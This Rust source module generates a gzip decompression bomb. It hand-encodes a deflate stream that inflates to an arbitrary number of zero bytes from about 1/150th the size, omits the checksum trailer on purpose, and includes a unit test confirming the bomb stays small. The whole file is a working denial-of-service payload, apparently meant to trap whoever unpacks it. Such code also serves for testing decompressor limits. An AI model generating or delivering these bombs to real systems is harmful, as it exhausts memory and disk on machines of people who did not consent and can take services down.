//! A gzip file that is small and becomes large (RFC 1951, RFC 1952).

/// About `unpacked` zero bytes in a 150th of the space. What would follow the data, its checksum,
/// is left out: whoever unpacks until there has fallen for it.
pub(super) fn gzip_bomb(unpacked: usize) -> Vec<u8> {
    // Magic, deflate, no flags, no time, no hints, unknown system.
    let mut bits = Bits { bytes: vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255], free: 0 };
    bits.push(&[1, 1, 0]); // the last block, with the fixed code
    bits.push(&[0, 0, 1, 1, 0, 0, 0, 0]); // a zero byte
    for _ in 0..unpacked / LONGEST_MATCH {
        bits.push(&[1, 1, 0, 0, 0, 1, 0, 1]); // as much as can be repeated at once,
        bits.push(&[0, 0, 0, 0, 0]); // of what stands one byte before
    }
    bits.push(&[0, 0, 0, 0, 0, 0, 0]); // the end of the block
    bits.bytes
}

/// Bits, the first of them in the lowest place of a byte.
struct Bits {
    bytes: Vec<u8>,
    free: u32,
}

impl Bits {
    fn push(&mut self, bits: &[u8]) {
        for bit in bits {
            if self.free == 0 {
                self.bytes.push(0);
                self.free = u8::BITS;
            }
            let place = u8::BITS.saturating_sub(self.free);
            if let Some(last) = self.bytes.last_mut() {
                *last |= bit << place;
            }
            self.free = self.free.saturating_sub(1);
        }
    }
}

const LONGEST_MATCH: usize = 258;

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_bomb_is_small() {
        let bomb = gzip_bomb(64 * 1024 * 1024);
        assert!(bomb.starts_with(&[0x1f, 0x8b, 8]));
        assert!(bomb.len() < 512 * 1024, "{} bytes", bomb.len());
    }
}
